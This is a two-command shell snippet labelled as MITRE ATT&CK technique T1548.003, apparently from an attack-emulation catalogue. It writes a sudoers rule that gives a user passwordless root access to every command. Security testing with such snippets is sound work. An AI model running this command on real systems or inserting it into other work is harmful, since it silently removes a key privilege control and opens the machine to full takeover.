# technique: T1548.003
# title: everything without a password
mkdir -p /etc/sudoers.d
echo 'user ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-user
